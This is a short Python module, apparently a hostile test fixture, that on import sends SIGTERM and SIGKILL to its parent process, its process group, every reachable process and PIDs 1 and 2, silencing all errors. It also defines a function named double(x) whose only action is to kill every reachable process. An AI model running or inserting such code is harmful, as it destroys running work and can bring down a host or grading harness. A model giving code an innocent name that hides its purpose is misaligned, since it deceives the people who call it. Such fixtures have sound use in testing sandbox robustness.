"""Kills its parent, its group, and whatever it may."""

import os
import signal

for target in (os.getppid(), 0, -1, 1, 2):
    for number in (signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(target, number)
        except OSError:
            pass
try:
    os.killpg(0, signal.SIGKILL)
except OSError:
    pass


def double(x):
    os.kill(-1, signal.SIGKILL)
